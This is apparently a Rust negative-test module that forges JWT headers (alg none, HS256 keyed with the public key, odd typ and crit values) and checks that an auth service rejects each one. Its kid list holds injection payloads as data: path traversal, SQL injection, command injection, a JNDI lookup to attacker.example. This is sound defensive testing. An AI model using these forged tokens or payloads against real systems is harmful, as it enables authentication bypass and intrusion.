//! Headers that would choose for themselves how they are judged, well signed wherever they can be.

use aws_lc_rs::hmac;
use base64::{Engine as _, prelude::BASE64_STANDARD, prelude::BASE64_URL_SAFE_NO_PAD as BASE64};
use proto::auth::v1::RejectionReason as R;
use serde_json::{Value, json};

use super::{Forgery, Material, forgery};
use crate::support::forger::{Forger, with};

pub(super) fn all(material: &Material) -> Vec<Forgery> {
    let forger = &material.forger;
    [algorithms(material), shared_secrets(forger), extensions(forger), types(forger), keys(forger)]
        .into_iter()
        .flatten()
        .collect()
}

fn algorithms(material: &Material) -> Vec<Forgery> {
    let forger = &material.forger;
    let unsigned = |algorithm: &str| {
        let token = forger.with_header("alg", algorithm);
        format!("{}.", token.rsplit_once('.').unwrap().0)
    };
    let mut corpus = vec![
        forgery("alg missing", forger.without_header("alg"), R::UnsupportedAlgorithm),
        forgery("alg none, and its signature", forger.with_header("alg", "none"), R::UnsupportedAlgorithm),
    ];
    for none in ["none", "None", "NONE", "nOnE", "", " none"] {
        corpus.push(forgery(format!("alg `{none}` and no signature"), unsigned(none), R::UnsupportedAlgorithm));
    }
    let names = [
        "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "ES256", "ES256K", "ES384", "ES512", "Ed25519",
        "Ed448", "eddsa", "EDDSA", "EdDSA ", "EdDSA\0", "dir", "ECDH-ES", "RSA-OAEP", "A256KW",
    ];
    for name in names {
        corpus.push(forgery(format!("alg {name:?}"), forger.with_header("alg", name), R::UnsupportedAlgorithm));
    }
    for odd in [Value::Null, json!(8), json!(-8), json!(true), json!(["EdDSA"]), json!({ "EdDSA": 1 })] {
        corpus.push(forgery(format!("alg {odd}"), forger.with_header("alg", odd), R::UnsupportedAlgorithm));
    }
    corpus
}

/// Signed with what everybody knows, in the hope that the public key is taken for a shared secret.
fn shared_secrets(forger: &Forger) -> Vec<Forgery> {
    let public = forger.public_key();
    let x = BASE64.encode(public);
    let jwk =
        json!({ "kty": "OKP", "crv": "Ed25519", "alg": "EdDSA", "use": "sig", "kid": forger.header["kid"], "x": x });
    // RFC 8410: the prefix of an Ed25519 key in DER.
    let der = [&[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00], public].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", BASE64_STANDARD.encode(&der));
    let secrets: [(&str, Vec<u8>); 9] = [
        ("the public key", public.to_vec()),
        ("the public key's text", x.into_bytes()),
        ("the public key as a JWK", jwk.to_string().into_bytes()),
        ("the public key in DER", der),
        ("the public key in PEM", pem.into_bytes()),
        ("nothing", Vec::new()),
        ("32 zeros", vec![0; 32]),
        ("the key's name", forger.header["kid"].as_str().unwrap().as_bytes().to_vec()),
        ("`secret`", b"secret".to_vec()),
    ];
    let forge = |(what, secret): (&str, Vec<u8>)| {
        let header = with(&forger.header, "alg", "HS256");
        let message = format!("{}.{}", BASE64.encode(header.to_string()), BASE64.encode(forger.claims.to_string()));
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), message.as_bytes());
        forgery(format!("HS256 with {what}"), format!("{message}.{}", BASE64.encode(tag)), R::UnsupportedAlgorithm)
    };
    secrets.into_iter().map(forge).collect()
}

fn extensions(forger: &Forger) -> Vec<Forgery> {
    let values = [json!(["exp"]), json!(["b64"]), json!([""]), json!([]), json!("exp"), json!({}), Value::Null];
    let forge =
        |value: Value| forgery(format!("crit {value}"), forger.with_header("crit", value), R::UnsupportedAlgorithm);
    values.into_iter().map(forge).collect()
}

fn types(forger: &Forger) -> Vec<Forgery> {
    let texts = [
        "",
        "JWT",
        "jwt",
        "at",
        "at+jwt ",
        " at+jwt",
        "at+jwt;v=1",
        "application/jwt",
        "x/at+jwt",
        "id+jwt",
        "dpop+jwt",
        "logout+jwt",
        "email+jwt",
        "secevent+jwt",
        "at+jwt\0",
        "at\u{ff0b}jwt",
    ];
    let odd = [Value::Null, json!(1), json!(["at+jwt"]), json!({ "at+jwt": true })];
    let values = texts.into_iter().map(Value::from).chain(odd);
    let forge = |value: Value| forgery(format!("typ {value}"), forger.with_header("typ", value), R::WrongType);
    values.map(forge).chain([forgery("typ missing", forger.without_header("typ"), R::WrongType)]).collect()
}

/// Names of keys that lead to files, tables, addresses or nowhere.
fn keys(forger: &Forger) -> Vec<Forgery> {
    let kid = forger.header["kid"].as_str().unwrap();
    let flipped = if kid.starts_with('A') { "B" } else { "A" };
    let long = "A".repeat(5000);
    let names = [
        "",
        "0",
        ".",
        "..",
        "null",
        "/dev/null",
        "../../../../../../dev/null",
        "..%2f..%2fetc%2fpasswd",
        "C:\\Windows\\win.ini",
        "file:///proc/self/environ",
        "http://127.0.0.1:50061/",
        "https://attacker.example/jwks.json",
        "'; DROP TABLE signing_key; --",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' --",
        "%",
        "$(id)",
        "|id",
        "{{7*7}}",
        "${jndi:ldap://attacker.example}",
        "\0",
        "\r\nx: y",
        "\u{202e}",
        &kid[1..],
        &format!("{kid} "),
        &format!("{kid}="),
        &format!("{kid}\0"),
        &format!("{flipped}{}", &kid[1..]),
        &kid.to_ascii_uppercase(),
        &BASE64.encode([7; 24]),
        &long,
    ];
    let odd = [Value::Null, json!(1), json!([kid]), json!({ "kid": kid }), json!(true)];
    let forge = |value: Value| {
        let shown: String = value.to_string().chars().take(60).collect();
        forgery(format!("kid {shown}"), forger.with_header("kid", value), R::UnknownKey)
    };
    let values = names.into_iter().map(Value::from).chain(odd);
    values.map(forge).chain([forgery("kid missing", forger.without_header("kid"), R::UnknownKey)]).collect()
}
